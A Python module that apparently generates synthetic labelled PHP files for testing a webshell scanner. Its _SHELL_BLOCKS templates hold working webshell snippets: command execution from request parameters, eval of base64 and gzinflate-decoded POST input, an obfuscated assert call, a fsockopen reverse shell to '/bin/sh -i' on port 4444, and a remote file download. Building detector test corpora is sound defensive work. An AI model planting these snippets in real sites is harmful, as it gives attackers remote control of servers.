"""Seeded generator of WebShell-like and benign-like PHP files for offline testing.

Generated files mention registry functions only as genuine calls: never in
comments, strings, method names, or as suffixes of other identifiers. That
keeps a plain regex count over any extracted region equal to the scanner's
count for the same bytes.
"""

from __future__ import annotations

import base64
import random
from pathlib import Path

from bfad.evaluation import DatasetManifest, ManifestEntry
from bfad.profiling import Label

_WORDS = (
    "user", "item", "cache", "config", "render", "value", "page", "post", "order",
    "session", "token", "record", "layout", "widget", "query", "result", "field", "theme",
)

# (template, number of critical calls it contains)
_SHELL_BLOCKS = (
    ("if (isset($_REQUEST['{w}'])) {{\n    echo system($_REQUEST['{w}']);\n}}\n", 1),
    ("$out = shell_exec($_GET['cmd'] . ' 2>&1');\necho \"<pre>$out</pre>\";\n", 1),
    ("$payload = base64_decode('{b64}');\neval($payload);\n", 2),
    ("@eval(gzinflate(base64_decode($_POST['{w}'])));\n", 3),
    ("$sock = fsockopen($_GET['h'], 4444);\n$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock), $pipes);\n", 2),
    ("echo php_uname() . \"\\n\" . getcwd();\nphpinfo();\n", 2),
    ("array_map('as' . 'sert', array($_POST['{w}']));\n", 1),
    ("$ch = curl_init($_GET['u']);\n$data = curl_exec($ch);\nfile_put_contents($_GET['f'], $data);\n", 2),
    ("passthru($_COOKIE['{w}']);\n", 1),
    ("$k = getenv('HOME');\n$enc = str_rot13(strrev($_POST['{w}']));\n", 3),
    ("register_shutdown_function('{w}_cleanup');\n", 1),
    ("echo base64_encode(openssl_encrypt($data, 'aes-128-cbc', $key));\n", 2),
)

_BENIGN_CRITICAL_BLOCKS = (
    ("$encoded = base64_encode(json_encode($payload));\n", 1),
    ("$env = getenv('APP_ENV') ?: 'production';\n", 1),
    ("$names = array_map('trim', explode(',', $csv));\n", 1),
    ("usort($rows, function ($a, $b) {{ return $a['{w}'] <=> $b['{w}']; }});\n", 1),
    ("$active = array_filter($items, fn($i) => $i->enabled);\n", 1),
    ("$ch = curl_init($endpoint);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n", 1),
    ("$limit = (int) ini_get('memory_limit');\n", 1),
)

_BENIGN_FILLER = (
    "$this->{w}Repository->save(${w});\n",
    "$count = count($items) + strlen(${w});\n",
    "// Update the {w} {w2} before rendering.\n",
    "/* Normalizes {w} data for the {w2} layer. */\n",
    "echo htmlspecialchars(${w}, ENT_QUOTES, 'UTF-8');\n",
    "$label = sprintf('%s: %d', '{w}', $total);\n",
    "if (empty(${w})) {{\n    return null;\n}}\n",
    "foreach ($rows as $row) {{\n    $out[] = $row['{w}'];\n}}\n",
    "$date = date('Y-m-d', strtotime(${w}));\n",
)


def _fill(template: str, rng: random.Random) -> str:
    b64 = base64.b64encode(rng.randbytes(rng.randint(12, 60))).decode()
    return template.format(w=rng.choice(_WORDS), w2=rng.choice(_WORDS), b64=b64)


def webshell_like(rng: random.Random) -> tuple[str, int]:
    """Return source text and its number of critical calls."""
    parts = ["<?php\n", "error_reporting(0);\nset_time_limit(0);\n"]
    calls = 0
    for _ in range(rng.randint(1, 6)):
        template, n = rng.choice(_SHELL_BLOCKS)
        parts.append(_fill(template, rng))
        calls += n
        if rng.random() < 0.3:
            parts.append(_fill(rng.choice(_BENIGN_FILLER), rng))
    if rng.random() < 0.3:
        parts.append("?>\n<html><body><form method=\"post\"><input name=\"c\"></form></body></html>\n")
    return "".join(parts), calls


def benign_like(rng: random.Random) -> tuple[str, int]:
    word = rng.choice(_WORDS)
    parts = [
        "<?php\n",
        f"namespace App\\{word.capitalize()};\n\n",
        f"class {word.capitalize()}Service\n{{\n",
        f"    public function handle(${word}, array $items)\n    {{\n",
    ]
    calls = 0
    for _ in range(rng.randint(3, 14)):
        if rng.random() < 0.18:
            template, n = rng.choice(_BENIGN_CRITICAL_BLOCKS)
            calls += n
        else:
            template = rng.choice(_BENIGN_FILLER)
        parts.append("        " + _fill(template, rng))
    parts.append("    }\n}\n")
    if rng.random() < 0.25:
        parts = ["<!DOCTYPE html>\n<title>Status</title>\n"] + parts + ["?>\n<footer>ok</footer>\n"]
    return "".join(parts), calls


def generate_corpus(n_webshell: int, n_benign: int, seed: int) -> list[tuple[str, str, Label, int]]:
    """Return ``(file name, source, label, critical call count)`` rows."""
    rng = random.Random(seed)
    rows = []
    for i in range(n_webshell):
        text, calls = webshell_like(rng)
        rows.append((f"webshell_{i:04d}.php", text, Label.WEBSHELL, calls))
    for i in range(n_benign):
        text, calls = benign_like(rng)
        rows.append((f"benign_{i:04d}.php", text, Label.BENIGN, calls))
    return rows


def write_corpus(directory: str | Path, n_webshell: int, n_benign: int, seed: int) -> DatasetManifest:
    """Write a generated corpus plus ``manifest.jsonl`` into ``directory``."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    entries = []
    for name, text, label, _ in generate_corpus(n_webshell, n_benign, seed):
        path = directory / name
        path.write_text(text, encoding="utf-8")
        entries.append(ManifestEntry(str(path.resolve()), label))
    manifest = DatasetManifest(tuple(entries))
    manifest.dump(directory / "manifest.jsonl")
    return manifest
